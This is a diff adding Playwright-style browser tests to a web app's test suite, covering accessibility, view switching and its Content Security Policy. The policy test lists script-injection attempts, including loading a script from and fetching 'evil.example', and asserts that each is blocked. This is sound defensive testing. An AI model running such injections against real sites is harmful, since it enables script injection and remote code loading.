@@ -45,6 +45,13 @@ DOCUMENTS = (
 
 VIEWS = ("ask", "search", "compare", "documents", "usage", "status")
 
+AXE = Path(__file__).with_name("axe") / "axe.min.js"
+
+VIOLATIONS = """
+const { violations } = await axe.run();
+return violations.map((one) => `${one.impact} ${one.id}: ${one.nodes.map((node) => node.html).join(" ")}`);
+"""
+
 REFUSING = """
 window.sent = "";
 const real = window.fetch;
@@ -432,6 +439,55 @@ def test_a_phone_shows_all_of_it(scene: Scene, view: str) -> None:
     scene.open(view, width=360, height=740, scheme="dark")
     scene.page.until("!document.querySelector('main').innerText.includes('Loading')")
     assert scene.page.run("return document.documentElement.scrollWidth <= innerWidth")
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("view", VIEWS)
+def test_axe_finds_nothing(scene: Scene, view: str, scheme: str) -> None:
+    """Names, roles, contrast and order: of a view with something in it, all of it unfolded."""
+    scene.open(view, scheme=scheme)
+    if view in ("ask", "search", "compare"):
+        scene.page.until("['TEXTAREA', 'INPUT'].includes(document.activeElement.tagName)")
+        scene.page.type("When does dental cover start?")
+        scene.page.press("Enter")
+        scene.page.until("document.querySelector('.receipt, .order')")
+    scene.page.until("!document.querySelector('main').innerText.includes('Loading')")
+    scene.page.run("document.querySelectorAll('details').forEach((one) => (one.open = true))")
+    scene.page.run(f"{AXE.read_text('utf-8')}; window.axe = axe")
+    assert scene.page.run(VIOLATIONS) == []
+    if view == "ask":
+        scene.page.click("button.quote")
+        scene.text("dialog mark")
+        assert scene.page.run(VIOLATIONS) == []
+
+
+def test_the_policy_holds_where_the_page_would_not(scene: Scene) -> None:
+    """No text becomes markup or a script, no other host is asked, nothing inline runs."""
+    scene.open("ask")
+    for attempt in (
+        "document.body.innerHTML = '<b>x</b>'",
+        "const one = document.createElement('script'); one.textContent = 'pwned=1'; document.body.append(one)",
+        "const one = document.createElement('script'); one.src = 'http://evil.example/x.js'; document.body.append(one)",
+        "eval('pwned=1')",
+        "await fetch('http://evil.example/')",
+    ):
+        assert scene.page.run(f"try {{ {attempt}; return 'done' }} catch (error) {{ return error.name }}") != "done", (
+            attempt
+        )
+    scene.page.complaints.clear()  # browsers log each of them
+    assert not any("evil" in url for url in scene.page.requested)
+
+
+def test_an_answer_goes_on_while_another_view_is_open(scene: Scene) -> None:
+    """Coming back shows it; an address of no view shows the first."""
+    scene.open("ask")
+    scene.page.type("When does dental cover start?")
+    scene.page.press("Enter")
+    scene.page.run("location.hash = '#/status'")
+    scene.page.until("document.querySelector('.lights')")
+    scene.page.run("location.hash = '#/constructor'")
+    assert scene.text(".answer-text").startswith("Dental cover starts")
+    assert scene.page.run("return document.querySelectorAll('.turn').length") == 1
 
 
 def test_the_keyboard_reaches_everything(scene: Scene) -> None:
